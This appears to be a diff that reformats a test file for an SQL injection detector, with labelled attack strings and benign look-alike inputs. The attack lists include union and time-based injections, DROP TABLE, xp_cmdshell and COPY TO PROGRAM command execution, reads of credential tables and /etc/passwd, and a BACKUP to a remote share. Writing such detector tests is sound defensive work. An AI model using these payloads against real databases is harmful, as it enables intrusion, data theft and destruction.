@@ -8,10 +8,22 @@ import { tokenize } from '../../src/detection/sql/tokenizer.js'
 test('tokenizer: strings, comments, versioned comments, variables, operators', () => {
   // read from the start, quotes open strings; the analyzer re-reads from each break-out point
   const t = tokenize("x' OR 'a'='a' -- c")
-  assert.deepEqual(t.map((x) => x.type), ['word', 'str', 'word', 'str', 'word', 'str'])
-  assert.deepEqual(tokenize(" OR 'a'='a' -- c").map((x) => x.type), ['word', 'str', 'op', 'str', 'comment'])
-  assert.deepEqual(tokenize('/*!50000UNION*/ SELECT @@version').map((x) => x.text), ['UNION', 'SELECT', '@@VERSION'])
-  assert.deepEqual(tokenize("a::text || b <> c").map((x) => x.text), ['A', '::', 'TEXT', '||', 'B', '<>', 'C'])
+  assert.deepEqual(
+    t.map((x) => x.type),
+    ['word', 'str', 'word', 'str', 'word', 'str'],
+  )
+  assert.deepEqual(
+    tokenize(" OR 'a'='a' -- c").map((x) => x.type),
+    ['word', 'str', 'op', 'str', 'comment'],
+  )
+  assert.deepEqual(
+    tokenize('/*!50000UNION*/ SELECT @@version').map((x) => x.text),
+    ['UNION', 'SELECT', '@@VERSION'],
+  )
+  assert.deepEqual(
+    tokenize('a::text || b <> c').map((x) => x.text),
+    ['A', '::', 'TEXT', '||', 'B', '<>', 'C'],
+  )
 })
 
 const attacks: [string, string][] = [
@@ -25,7 +37,7 @@ const attacks: [string, string][] = [
   ['1 AND SLEEP(5)', 'sqli-time'],
   ["1' AND BENCHMARK(5000000,MD5(1))#", 'sqli-time'],
   ["'; WAITFOR DELAY '0:0:5'--", 'sqli-time'],
-  ["1; DROP TABLE users", 'sqli-stacked'],
+  ['1; DROP TABLE users', 'sqli-stacked'],
   ["'; DROP TABLE users--", 'sqli-stacked'],
   ["' UNION SELECT username, password FROM users--", 'sqli-union'],
   ['1 UNION ALL SELECT NULL,NULL,NULL', 'sqli-union'],
@@ -33,8 +45,8 @@ const attacks: [string, string][] = [
   // issue 3: a '+' left where form encoding had a space
   ["' union+/*!select*/ (1),(2),(3)", 'sqli-union'],
   // issue 3: keywords cut into JSON array items the app joins back
-  ["' un\\\",\\\"ion se\\\",\\\"lect 1,2,3,4,5", 'sqli-union'],
-  ["' un\",\"ion se\",\"lect 1,2,3,4,5", 'sqli-union'],
+  ['\' un\\",\\"ion se\\",\\"lect 1,2,3,4,5', 'sqli-union'],
+  ['\' un","ion se","lect 1,2,3,4,5', 'sqli-union'],
   [' ORDER BY 5--', 'sqli-clause'],
   ['1 ORDER BY name DESC--', 'sqli-clause'],
   ["' PROCEDURE ANALYSE()#", 'sqli-clause'],
@@ -44,7 +56,7 @@ const attacks: [string, string][] = [
   ["' ; exec master..xp_cmdshell 'ping 10.0.0.1'--", 'sqli-out-of-band'],
   ["'; SHUTDOWN--", 'sqli-stacked'],
   ["1 INTO OUTFILE '/tmp/x'", 'sqli-out-of-band'],
-  ["select * from pg_group;", 'sqli-statement'],
+  ['select * from pg_group;', 'sqli-statement'],
   // zero-width characters inside keywords (issue 3)
   ["' un\u200bion se\u200blect 1\u200b,2\u200b,3", 'sqli-union'],
   ["'-'", 'sqli-boolean'],
@@ -120,7 +132,7 @@ const benign = [
   "can't sleep(5 hours)",
   'Please select one from the list',
   "What's new? Check the 'updates' tab",
-  'P@ss\'w0rd!#$%',
+  "P@ss'w0rd!#$%",
   "McDonald's #1 burger",
   'if (a || b) return x;',
   '{"query": "SELECT name FROM t WHERE id = ?"}',
@@ -129,11 +141,11 @@ const benign = [
   "Run 'drop table users' to reset",
   "it's 'create table' time",
   "I can't; select the best one",
-  "Please; update profile set to private",
+  'Please; update profile set to private',
   'where (the heart is)',
   'from home where we live',
-  "Rock \u2018n\u2019 roll",
-  "It\u2019s O\u2019Brien\u2019s turn -- not mine",
+  'Rock \u2018n\u2019 roll',
+  'It\u2019s O\u2019Brien\u2019s turn -- not mine',
   'sleep(5 hours) and more',
   "can't sleep('a lot of noise' and more)",
   'Pick a size (select 2)',
@@ -164,7 +176,16 @@ test('SQL injection: tricky legitimate values pass', () => {
 })
 
 test('SQL analysis stays linear on long adversarial input', () => {
-  for (const v of ["'".repeat(200_000), '/*'.repeat(100_000), '1 OR '.repeat(50_000), '-- '.repeat(100_000), 'a=1&'.repeat(50_000), '\u2019/**/'.repeat(50_000), "x', 1".repeat(50_000), 'f(('.repeat(50_000)]) {
+  for (const v of [
+    "'".repeat(200_000),
+    '/*'.repeat(100_000),
+    '1 OR '.repeat(50_000),
+    '-- '.repeat(100_000),
+    'a=1&'.repeat(50_000),
+    '\u2019/**/'.repeat(50_000),
+    "x', 1".repeat(50_000),
+    'f(('.repeat(50_000),
+  ]) {
     const t = performance.now()
     analyzeSql(v)
     assert.ok(performance.now() - t < 1000)
@@ -174,17 +195,32 @@ test('SQL analysis stays linear on long adversarial input', () => {
 test('SQL: a statement aimed at the database internals blocks, a snippet of app queries does not (issue 3)', () => {
   const failures: string[] = []
   for (const value of [
-    'select * from pg_shadow;', "select current_setting('data_directory');", 'select * from master..sysservers', 'SELECT user, authentication_string FROM mysql.user',
-    "COPY (SELECT '') TO PROGRAM 'id'", 'exec xp_cmdshell', 'EXEC master..xp_cmdshell', 'SELECT 6229 FROM(SELECT COUNT(*),CONCAT(0x717a786a71,(SELECT (CASE',
-    'SELECT CHR(113)||CHR(122)||CHR(120)||CHR(106)||CHR(113)||(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))', "copy secrets to '/tmp/out.csv';", "BACKUP DATABASE master TO DISK = '\\\\203.0.113.5\\share\\m.bak'", 'SELECT pg_read_file(\'/etc/passwd\')',
+    'select * from pg_shadow;',
+    "select current_setting('data_directory');",
+    'select * from master..sysservers',
+    'SELECT user, authentication_string FROM mysql.user',
+    "COPY (SELECT '') TO PROGRAM 'id'",
+    'exec xp_cmdshell',
+    'EXEC master..xp_cmdshell',
+    'SELECT 6229 FROM(SELECT COUNT(*),CONCAT(0x717a786a71,(SELECT (CASE',
+    'SELECT CHR(113)||CHR(122)||CHR(120)||CHR(106)||CHR(113)||(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))',
+    "copy secrets to '/tmp/out.csv';",
+    "BACKUP DATABASE master TO DISK = '\\\\203.0.113.5\\share\\m.bak'",
+    "SELECT pg_read_file('/etc/passwd')",
   ]) {
     const f = analyzeSql(value)
     if (f === null || f.confidence < 0.8) failures.push(`missed: ${value} ${f?.rule} ${f?.confidence}`)
   }
   for (const value of [
-    'SELECT id, name FROM customers WHERE country = :country ORDER BY created_at DESC LIMIT 20;', 'SELECT COUNT(*) FROM orders;', 'select version();',
-    'Copy it to the Downloads folder', 'backup database nightly to disk', 'execute the plan', 'SELECT a + (SELECT b FROM t) FROM u;',
-    "SELECT c.name, (SELECT COUNT(*) FROM orders o WHERE o.customer_id = c.id) AS n FROM customers c WHERE c.code = 'X';", 'SELECT * FROM users WHERE role = \'admin\';',
+    'SELECT id, name FROM customers WHERE country = :country ORDER BY created_at DESC LIMIT 20;',
+    'SELECT COUNT(*) FROM orders;',
+    'select version();',
+    'Copy it to the Downloads folder',
+    'backup database nightly to disk',
+    'execute the plan',
+    'SELECT a + (SELECT b FROM t) FROM u;',
+    "SELECT c.name, (SELECT COUNT(*) FROM orders o WHERE o.customer_id = c.id) AS n FROM customers c WHERE c.code = 'X';",
+    "SELECT * FROM users WHERE role = 'admin';",
   ]) {
     const f = analyzeSql(value)
     if (f !== null && f.confidence >= 0.8) failures.push(`blocked: ${value} ${f.rule} ${f.confidence}`)
@@ -193,24 +229,100 @@ test('SQL: a statement aimed at the database internals blocks, a snippet of app 
 })
 
 test('SQL pre-gate: prose and plain data skip the tokenizer, every attack form passes the gate', () => {
-  for (const value of ['Please leave the parcel at the front door.', '742 Evergreen Terrace', 'Item number 12', '12 Main Street, Apt. #3', 'Zoë Ng', 'D02 X285', 'a plan -- then pay or cancel']) {
+  for (const value of [
+    'Please leave the parcel at the front door.',
+    '742 Evergreen Terrace',
+    'Item number 12',
+    '12 Main Street, Apt. #3',
+    'Zoë Ng',
+    'D02 X285',
+    'a plan -- then pay or cancel',
+  ]) {
     assert.equal(mayBeSql(value), false, value)
   }
   // a tail that starts the value, or follows a leading number; words that fire anywhere; look-alike letters
-  for (const value of ['or true', ' ) OR 1=1', '5 or 1 between 1 and 2', '(-3) order by 2', '1 union select 1,2', 'x sleep(5)', 'ſelect 1 from t', 'ſleep(5)', '1 xor ı']) {
+  for (const value of [
+    'or true',
+    ' ) OR 1=1',
+    '5 or 1 between 1 and 2',
+    '(-3) order by 2',
+    '1 union select 1,2',
+    'x sleep(5)',
+    'ſelect 1 from t',
+    'ſleep(5)',
+    '1 xor ı',
+  ]) {
     assert.ok(mayBeSql(value), value)
   }
 })
 
-test('SQL pre-gate never hides a finding (property, over the analyzer\'s own vocabulary)', () => {
+test("SQL pre-gate never hides a finding (property, over the analyzer's own vocabulary)", () => {
   // Every upper-case word the analyzer compares against, read from its compiled source: a rule
   // added later with a new keyword is covered without editing this test.
   const source = readFileSync(new URL('../../src/detection/sql/analyzer.js', import.meta.url), 'utf8')
   const words = [...new Set([...source.matchAll(/'([A-Z][A-Z_.]+)'/g)].map((m) => m[1]!))]
   assert.ok(words.length > 80, `vocabulary: ${words.length}`)
-  const pieces = [...words, ...words.map((w) => w.toLowerCase()), 'users', 'name', 'the', 'door', 'ſelect', 'unıon', 'ſleep', 'ınto', 'x', '1', '0x1f', '5', '.5',
-    ' ', ' ', ' ', '  ', '\t', '\u00a0', '(', ')', ',', '.', '=', '<', '>', '!', '-', '+', '/', '*', '%', '^', '~', ':', '?', '{', '}', '\\',
-    "'", '"', '`', '[', ']', '@', '@@', ';', '|', '&', '#', '--', '/*', '*/', '/*!50000', '\n', '\u2019', 'é']
+  const pieces = [
+    ...words,
+    ...words.map((w) => w.toLowerCase()),
+    'users',
+    'name',
+    'the',
+    'door',
+    'ſelect',
+    'unıon',
+    'ſleep',
+    'ınto',
+    'x',
+    '1',
+    '0x1f',
+    '5',
+    '.5',
+    ' ',
+    ' ',
+    ' ',
+    '  ',
+    '\t',
+    '\u00a0',
+    '(',
+    ')',
+    ',',
+    '.',
+    '=',
+    '<',
+    '>',
+    '!',
+    '-',
+    '+',
+    '/',
+    '*',
+    '%',
+    '^',
+    '~',
+    ':',
+    '?',
+    '{',
+    '}',
+    '\\',
+    "'",
+    '"',
+    '`',
+    '[',
+    ']',
+    '@',
+    '@@',
+    ';',
+    '|',
+    '&',
+    '#',
+    '--',
+    '/*',
+    '*/',
+    '/*!50000',
+    '\n',
+    '\u2019',
+    'é',
+  ]
   let flaggedWithoutGateChars = 0
   fc.assert(
     fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 14 }), (parts) => {
